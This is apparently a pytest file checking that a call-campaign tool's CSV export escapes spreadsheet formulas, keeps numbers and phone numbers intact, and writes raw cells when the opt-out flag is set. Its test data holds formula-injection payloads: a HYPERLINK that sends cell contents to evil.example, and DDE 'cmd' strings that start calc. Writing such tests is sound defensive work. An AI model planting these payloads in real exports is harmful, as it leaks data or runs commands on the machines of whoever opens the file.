"""``broadcast export --format csv`` never hands a spreadsheet a formula (issue 13 item 7)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from dialplan.broadcast.campaign import load_campaign
from dialplan.broadcast.reporting.csvsafe import neutralise
from dialplan.broadcast.service import run_campaign
from dialplan.broadcast.telephony.port import CallSpec, CallSummary

from .helpers import write_campaign

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def echo_runner(spec: CallSpec) -> CallSummary:
    """Stashes the contact's ``note`` as the answer to a question whose name is hostile too."""
    return CallSummary("hangup", 5.0, (("=q", spec.contact["note"]),), (("Greeting", "hi"),))


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("csvinj")
    rows = [
        {"phone_number": f"+1212555{100 + i:04d}", "note": note, "=cmd": note, "sim_result": "LA"}
        for i, note in enumerate(HOSTILE)
    ]
    rows.append(
        {"phone_number": "+12125550199", "note": "-3.5", "=cmd": "+12125550101", "sim_result": "LA"}
    )
    run_campaign(load_campaign(write_campaign(tmp, rows)), tmp / "db.sqlite", runner=echo_runner)
    return tmp / "db.sqlite"


def export_csv(db: Path, *extra: str) -> list[dict[str, str]]:
    args = ["export", "test", "--db", str(db), "--format", "csv", *extra]
    out = subprocess.run(
        [sys.executable, "-m", "dialplan", "broadcast", *args],
        cwd=ROOT,
        capture_output=True,
        check=True,
    )  # bytes: text mode would turn the \r inside a cell into \n
    return list(csv.DictReader(io.StringIO(out.stdout.decode("utf-8"), newline="")))


def test_hostile_cells_and_headers_are_neutralised(db: Path) -> None:
    rows = export_csv(db)
    assert "'=cmd" in rows[0] and "'=q" in rows[0]  # headers: the attribute and the question
    for row, note in zip(rows, HOSTILE, strict=False):
        assert row["note"] == "'" + note
        assert row["'=cmd"] == "'" + note
        assert row["'=q"] == "'" + note  # the stashed answer
    for row in rows:
        for cell in [*row, *row.values()]:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell


def test_numbers_and_phone_numbers_are_left_alone(db: Path) -> None:
    last = export_csv(db)[-1]
    assert last["note"] == "-3.5" and last["'=q"] == "-3.5"
    assert last["'=cmd"] == "+12125550101"
    assert last["phone_number"] == last["e164"] == "+12125550199"


def test_the_opt_out_writes_cells_raw(db: Path) -> None:
    rows = export_csv(db, "--no-csv-escape")
    assert [r["note"] for r in rows[: len(HOSTILE)]] == HOSTILE
    assert [r["=q"] for r in rows[: len(HOSTILE)]] == HOSTILE


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("+", "'+"),
        ("-", "'-"),
        ("+1 (212) 555-0101", "+1 (212) 555-0101"),
        ("-1e5", "-1e5"),
        ("+.5", "+.5"),
        ("-1e5+cmd", "'-1e5+cmd"),
        ("Maria", "Maria"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected
